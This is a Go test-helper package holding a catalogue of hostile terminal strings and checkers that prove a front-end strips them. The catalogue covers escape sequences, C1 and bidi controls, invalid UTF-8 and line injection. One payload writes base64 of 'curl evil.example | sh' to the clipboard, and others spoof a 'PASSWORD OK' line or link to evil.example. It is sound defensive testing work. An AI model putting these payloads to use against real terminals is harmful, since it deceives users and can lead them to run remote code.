// Package hostile is a catalogue of strings a hostile or broken portal could send
// (terminal escape sequences of every kind, C1 controls, bidi overrides, invisible
// characters, invalid UTF-8, huge and multi-line names) and the checks that prove none
// of them reaches the terminal. Only tests use it: they seed a fake portal with the
// catalogue (directly, or through Middleware, which puts the strings into the answers)
// and call Check or CheckScreen on everything a front-end writes.
package hostile

import (
	"bytes"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/charmbracelet/x/ansi"
)

// Entry is one hostile string.
type Entry struct {
	// Name says what the string tries to do.
	Name string
	// Marker is short visible text inside Payload ("H07") that survives cleaning, so a
	// test can find where the string landed.
	Marker string
	// Token is what a test puts into a seeded field ("HOSTILE07"); Middleware replaces
	// it with Payload in the portal's answers.
	Token string
	// Payload is the hostile string itself.
	Payload string
	// Sig is the dangerous part of Payload together with its marker: it must never
	// appear in any output, not even in the wizard's terminal stream (where the
	// program's own escape sequences are legitimate).
	Sig string
}

// Long is the length of the catalogue's long name.
const Long = 10000

// Catalogue returns the hostile strings, each with a marker H01, H02, …
func Catalogue() []Entry {
	raw := []struct{ name, payload, sig string }{
		{"OSC 0 title change (BEL)", "\x1b]0;H01 title pwned\x07Room H01", "\x1b]0;H01"},
		{"OSC 0 title change (ST)", "\x1b]0;H02 title pwned\x1b\\Room H02", "\x1b]0;H02"},
		{"OSC 2 title change", "\x1b]2;H03 title pwned\x07Room H03", "\x1b]2;H03"},
		{"OSC 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07H04 Room", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="},
		{"OSC 8 hyperlink to evil.example", "\x1b]8;;https://evil.example/H05\x1b\\H05 click me\x1b]8;;\x1b\\", "\x1b]8;;https://evil.example/H05"},
		{"DCS string", "\x1bPH06 dcs+q544e\x1b\\Room", "\x1bPH06"},
		{"APC string", "\x1b_H07 apc Gf=100;\x1b\\Room", "\x1b_H07"},
		{"PM string", "\x1b^H08 pm\x1b\\Room", "\x1b^H08"},
		{"SOS string", "\x1bXH09 sos\x1b\\Room", "\x1bXH09"},
		{"ESC c terminal reset", "\x1bcH10 reset", "\x1bcH10"},
		{"CSI 2J clear and cursor moves", "\x1b[2J\x1b[HH11 \x1b[10;10Hmoved", "\x1b[HH11"},
		{"SGR red (then rapid blink)", "\x1b[31mH12 red\x1b[6m!\x1b[0m", "\x1b[31mH12"},
		{"SGR conceal and blink", "\x1b[8mH13 hidden\x1b[6m blink\x1b[0m", "\x1b[8mH13"},
		{"8-bit CSI U+009B 2J", "\u009b2JH14 8-bit CSI", "\u009b2JH14"},
		{"other C1 controls (NEL, RI, 8-bit DCS, 8-bit OSC)", "H15 \u0085nel\u008dri\u0090dcs\u009d0;osc", "\u008dri"},
		{"raw bytes 0x9B and 0x9D (invalid UTF-8)", "H16 raw \x9b2J \x9d0;t\x07", "raw \x9b2J"},
		{"bidi override U+202E", "H17 \u202egpj.exe", "\u202e"},
		{"bidi isolates U+2066-U+2069", "H18 \u2066a\u2067b\u2068c\u2069", "\u2066"},
		{"zero-width U+200B U+200D U+FEFF", "H19 a\u200bb\u200dc\ufeffd", "a\u200bb"},
		{"NUL, BEL and backspace", "H20 a\x00b\x07c\x08d", "a\x00b"},
		{"CR and line clearing", "H21\rPASSWORD OK\x1b[K", "\rPASSWORD OK"},
		{"newline injection", "Room H22\nFake: line", "H22\nFake:"},
		{"10,000-character name ending in an escape", "H23 " + strings.Repeat("x", Long) + "\x1b[2J end", "x\x1b[2J end"},
		{"invalid UTF-8", "H24 \xff\xfe\xc0\xaf bad", "\xff\xfe"},
		{"CJK wide text with escapes", "H25 会议室\x1b[31m红色\x1b[2K 部屋", "\x1b[31m红色"},
		{"bracketed paste end", "H26 \x1b[201~ paste end", "\x1b[201~"},
		{"ESC 7 / ESC 8 cursor save and restore", "H27 \x1b7saved\x1b8", "\x1b7saved"},
	}
	out := make([]Entry, len(raw))
	for i, r := range raw {
		n := fmt.Sprintf("%02d", i+1)
		out[i] = Entry{Name: r.name, Marker: "H" + n, Token: "HOSTILE" + n, Payload: r.payload, Sig: r.sig}
	}
	return out
}

// Subst maps each entry's Token to its Payload, for Middleware.
func Subst(entries []Entry) map[string]string {
	m := make(map[string]string, len(entries))
	for _, e := range entries {
		m[e.Token] = e.Payload
	}
	return m
}

// JSONString returns s escaped for the inside of a JSON string, as json.Marshal would
// write it, except that bytes which are not valid UTF-8 are kept as they are (as a
// broken portal might send them) instead of becoming U+FFFD.
func JSONString(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && size <= 1 {
			b.WriteByte(s[i])
			i++
			continue
		}
		i += size
		switch {
		case r == '"':
			b.WriteString(`\"`)
		case r == '\\':
			b.WriteString(`\\`)
		case r == '\n':
			b.WriteString(`\n`)
		case r == '\r':
			b.WriteString(`\r`)
		case r == '\t':
			b.WriteString(`\t`)
		case r < 0x20:
			fmt.Fprintf(&b, `\u%04x`, r)
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

// Middleware serves next and replaces, in every answer's body, each key of subst (a
// token such as "HOSTILE07" a test seeded into a title or a name) with its value
// escaped for a JSON string, fixing Content-Length. It makes any fake portal hostile
// without changing it.
func Middleware(next http.Handler, subst map[string]string) http.Handler {
	tokens := make([]string, 0, len(subst))
	for k := range subst {
		tokens = append(tokens, k)
	}
	// Longer tokens first, so one that starts another is not replaced inside it.
	sort.Slice(tokens, func(i, j int) bool {
		return len(tokens[i]) > len(tokens[j]) || len(tokens[i]) == len(tokens[j]) && tokens[i] < tokens[j]
	})
	pairs := make([]string, 0, 2*len(tokens))
	for _, k := range tokens {
		pairs = append(pairs, k, JSONString(subst[k]))
	}
	repl := strings.NewReplacer(pairs...)
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec := httptest.NewRecorder()
		next.ServeHTTP(rec, r)
		body := []byte(repl.Replace(rec.Body.String()))
		h := w.Header()
		for k, v := range rec.Header() {
			h[k] = v
		}
		h.Set("Content-Length", strconv.Itoa(len(body)))
		w.WriteHeader(rec.Code)
		_, _ = w.Write(body)
	})
}

// badRune names a rune no output may contain, or "" when it is fine. C0 controls other
// than tab and line feed are left to the callers (carriage return needs context).
func badRune(r rune) string {
	switch {
	case r == 0x1b:
		return "ESC"
	case r == 0:
		return "NUL"
	case r == 0x07:
		return "BEL"
	case r == 0x08:
		return "backspace"
	case r < 0x20 && r != '\t' && r != '\n' && r != '\r':
		return fmt.Sprintf("C0 control U+%04X", r)
	case r == 0x7f:
		return "DEL"
	case r >= 0x80 && r <= 0x9f:
		return fmt.Sprintf("C1 control U+%04X", r)
	case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
		return fmt.Sprintf("bidi control U+%04X", r)
	case r == 0x200b, r == 0x200d, r == 0xfeff:
		return fmt.Sprintf("zero-width U+%04X", r)
	}
	return ""
}

// textProblems checks text that holds no escape sequence: every rune, raw C1 bytes,
// a carriage return that is not part of a line break, and a line that starts with
// the catalogue's injected "Fake:".
func textProblems(s string, base int, add func(at int, what string)) {
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && size <= 1 {
			if c := s[i]; c >= 0x80 && c <= 0x9f {
				add(base+i, fmt.Sprintf("raw C1 byte 0x%02X (8-bit control on a terminal that is not in UTF-8 mode)", c))
			} else {
				add(base+i, fmt.Sprintf("invalid UTF-8 byte 0x%02X", c))
			}
			i++
			continue
		}
		if r == '\r' && !strings.HasPrefix(s[i+1:], "\n") {
			add(base+i, "carriage return (the rest overwrites the line)")
		} else if what := badRune(r); what != "" {
			add(base+i, what)
		}
		i += size
	}
}

// fakeLine finds a line starting with "Fake:": the newline injection entry split a
// name onto a line of its own.
var fakeLine = regexp.MustCompile(`(?m)^[\s│|>•✓✗*-]*Fake:`)

func lineProblems(s string, add func(at int, what string)) {
	for _, loc := range fakeLine.FindAllStringIndex(s, -1) {
		add(loc[0], "injected line (a name's newline started a line of its own)")
	}
}

// Problems lists what makes out unsafe to write to a terminal: any ESC byte, C1
// control (as a rune or a raw byte), invalid UTF-8, bidi control, zero-width character, NUL, BEL,
// backspace or other C0 control but tab and line feed, a carriage return outside a
// CR LF pair, and a line the newline injection entry started. Long lines are fine.
func Problems(out []byte) []string {
	var ps []string
	add := func(at int, what string) { ps = append(ps, what+" at byte "+strconv.Itoa(at)+": "+excerpt(out, at)) }
	textProblems(string(out), 0, add)
	lineProblems(string(out), add)
	return ps
}

// ScreenProblems is Problems for a frame of the wizard, whose own styles use escape
// sequences: each sequence must be an SGR (CSI … m) without blink (5, 6) or conceal
// (8), or an OSC 8 hyperlink to a room of portalURL
// (portalURL/rooms/shared/<id>/filter?folder=<id>) or the empty one that closes a
// link. The text between sequences gets the rune checks of Problems.
func ScreenProblems(view, portalURL string) []string {
	var ps []string
	add := func(at int, what string) {
		ps = append(ps, what+" at byte "+strconv.Itoa(at)+": "+excerpt([]byte(view), at))
	}
	link := regexp.MustCompile(`^` + regexp.QuoteMeta(strings.TrimSuffix(portalURL, "/")) + `/rooms/shared/[0-9]+/filter\?folder=[0-9]+$`)
	var text strings.Builder // the view without its sequences, for the text checks
	var state byte
	for i := 0; i < len(view); {
		seq, _, n, next := ansi.DecodeSequence(view[i:], state, nil)
		if n <= 0 {
			n = 1
			seq = view[i : i+1]
		}
		if c := seq[0]; c == ansi.ESC || c >= 0x80 && c <= 0x9f {
			if what := sequenceProblem(seq, link); what != "" {
				add(i, what)
			}
		} else {
			text.WriteString(seq)
		}
		i += n
		state = next
	}
	// The text between sequences, as the terminal shows it (a CR LF pair may be split
	// by the decoder); positions are in this text.
	plain := text.String()
	inText := func(at int, what string) {
		ps = append(ps, what+" at byte "+strconv.Itoa(at)+" of the text: "+excerpt([]byte(plain), at))
	}
	textProblems(plain, 0, inText)
	lineProblems(plain, inText)
	return ps
}

// sequenceProblem says why seq is not one of the sequences the wizard may draw.
func sequenceProblem(seq string, link *regexp.Regexp) string {
	switch {
	case seq[0] != ansi.ESC:
		return fmt.Sprintf("8-bit control 0x%02X", seq[0])
	case ansi.HasCsiPrefix(seq):
		body := seq[2:]
		if len(body) == 0 || body[len(body)-1] != 'm' {
			return fmt.Sprintf("CSI sequence %q that is not SGR", seq)
		}
		return sgrProblem(body[:len(body)-1])
	case ansi.HasOscPrefix(seq):
		data := seq[2:]
		switch {
		case strings.HasSuffix(data, "\x07"):
			data = strings.TrimSuffix(data, "\x07")
		case strings.HasSuffix(data, "\x1b\\"):
			data = strings.TrimSuffix(data, "\x1b\\")
		default:
			return fmt.Sprintf("unterminated OSC %q", clip(seq))
		}
		if !strings.HasPrefix(data, "8;") {
			return fmt.Sprintf("OSC sequence %q that is not a hyperlink", clip(seq))
		}
		parts := strings.SplitN(data, ";", 3)
		if len(parts) != 3 {
			return fmt.Sprintf("malformed OSC 8 %q", clip(seq))
		}
		if url := parts[2]; url != "" && !link.MatchString(url) {
			return fmt.Sprintf("OSC 8 hyperlink to %q, not to a room of the portal", clip(url))
		}
		return ""
	}
	return fmt.Sprintf("escape sequence %q that is neither SGR nor a room link", clip(seq))
}

// sgrProblem checks an SGR's parameters for blink (5, 6) and conceal (8), skipping
// the colour arguments of 38, 48 and 58.
func sgrProblem(params string) string {
	if params != "" && strings.Trim(params, "0123456789;:") != "" {
		return fmt.Sprintf("SGR with private or odd parameters %q", params)
	}
	fields := strings.Split(params, ";")
	for i := 0; i < len(fields); i++ {
		f := fields[i]
		if strings.Contains(f, ":") {
			continue // 38:2::r:g:b and the like: one parameter with its own arguments
		}
		n, _ := strconv.Atoi(f)
		switch n {
		case 38, 48, 58:
			if i+1 < len(fields) {
				switch fields[i+1] {
				case "5":
					i += 2
				case "2":
					i += 4
				}
			}
		case 5, 6:
			return fmt.Sprintf("SGR blink (%q): the wizard's styles never blink", params)
		case 8:
			return fmt.Sprintf("SGR conceal (%q): the wizard's styles never conceal", params)
		}
	}
	return ""
}

func clip(s string) string {
	if len(s) > 80 {
		return s[:80] + "…"
	}
	return s
}

// excerpt quotes out around at.
func excerpt(out []byte, at int) string {
	lo, hi := max(0, at-40), min(len(out), at+40)
	return strconv.Quote(string(out[lo:hi]))
}

// maxReported bounds the failures one call reports.
const maxReported = 8

func report(t testing.TB, where string, ps []string) {
	t.Helper()
	for i, p := range ps {
		if i == maxReported {
			t.Errorf("%s: and %d more problems", where, len(ps)-maxReported)
			break
		}
		t.Errorf("%s: outside text reaches the terminal raw: %s", where, p)
	}
}

// Check fails t when out (what a front-end wrote) holds anything Problems lists.
func Check(t testing.TB, where string, out []byte) {
	t.Helper()
	report(t, where, Problems(out))
}

// CheckScreen fails t when a frame of the wizard holds anything ScreenProblems lists.
func CheckScreen(t testing.TB, where, view, portalURL string) {
	t.Helper()
	report(t, where, ScreenProblems(view, portalURL))
}

// CheckSigs fails t when out holds the signature of any entry: for a terminal stream
// in which the program's own escape sequences are legitimate.
func CheckSigs(t testing.TB, where string, out []byte, entries []Entry) {
	t.Helper()
	var ps []string
	for _, e := range entries {
		if i := bytes.Index(out, []byte(e.Sig)); i >= 0 {
			ps = append(ps, e.Marker+" ("+e.Name+") at byte "+strconv.Itoa(i)+": "+excerpt(out, i))
		}
	}
	report(t, where, ps)
}
